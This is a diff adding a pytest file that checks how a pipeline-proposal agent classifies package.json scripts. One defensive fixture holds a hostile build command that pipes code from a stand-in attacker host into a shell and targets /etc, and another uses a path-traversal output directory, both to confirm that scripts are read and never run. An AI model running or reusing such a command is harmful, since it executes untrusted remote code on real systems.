@@ -1,0 +1,72 @@
+"""Script semantics: unit vs end-to-end vs lint scripts, placeholders, build scripts under other
+names, the setup a suite needs, and output directories the framework config declares."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from core.agent.analysis import analyze_repository
+from core.agent.proposal import propose_pipeline
+from core.agent.scripts import classify, is_placeholder, output_from_script, plan_scripts
+from forgeline.pipeline_validation import validate_proposal
+from tests.agent.corpus import SCRIPT_SEMANTICS, SampleRepo, write_repo
+
+
+@pytest.mark.parametrize("sample", SCRIPT_SEMANTICS, ids=[s.name for s in SCRIPT_SEMANTICS])
+def test_layouts_get_the_commands_their_scripts_mean(sample: SampleRepo, tmp_path: Path) -> None:
+    app = analyze_repository(write_repo(sample, tmp_path)).primary
+    assert app.framework == sample.framework
+    for attribute, expected in sample.expect.items():
+        assert getattr(app, attribute) == expected, (attribute, app.evidence)
+    if sample.output_directory:
+        assert app.output_directory == sample.output_directory
+
+
+def test_the_unit_stage_never_runs_an_end_to_end_suite(tmp_path: Path) -> None:
+    sample = next(s for s in SCRIPT_SEMANTICS if s.name == "node-e2e-test-script")
+    proposal = propose_pipeline(analyze_repository(write_repo(sample, tmp_path)))
+    test = next(s for s in proposal.stages if s.stage_type == "test")
+    assert test.commands[-1] == "npm run test:unit"
+    assert "cp -n .env.example .env" in test.commands
+    assert not any("playwright" in c for s in proposal.stages for c in s.commands)
+    assert validate_proposal(proposal).valid
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        'echo "Error: no test specified" && exit 1',
+        "echo 'no tests' ; exit 0",
+        "exit 1",
+        "",
+        "  true ",
+    ],
+)
+def test_placeholders_are_recognised(body: str) -> None:
+    assert is_placeholder(body)
+
+
+@pytest.mark.parametrize("body", ["jest", "vitest run", "node --test", "mocha 'test/**/*.js'"])
+def test_real_test_scripts_are_not_placeholders(body: str) -> None:
+    assert not is_placeholder(body)
+    assert classify("test", {"test": body}) == "unit"
+
+
+def test_hostile_scripts_are_read_not_run() -> None:
+    scripts = {
+        # Unbalanced quotes, self- and mutual recursion, a script that calls a missing one.
+        "test": "npm run test && npm run a",
+        "a": "npm run b",
+        "b": "npm run a; echo '",
+        "build": "$(curl evil.example | sh) --outDir /etc",
+        "lint": "eslint . --fix",
+    }
+    plan = plan_scripts(scripts)
+    assert plan.unit == "test"
+    assert plan.build == "build"
+    assert plan.output_directory is None
+    assert plan.lint is None
+    assert output_from_script("vite build --outDir ../../outside") is None
+    assert plan_scripts({"test": 3, 7: "x"}) == plan_scripts({})  # type: ignore[dict-item]
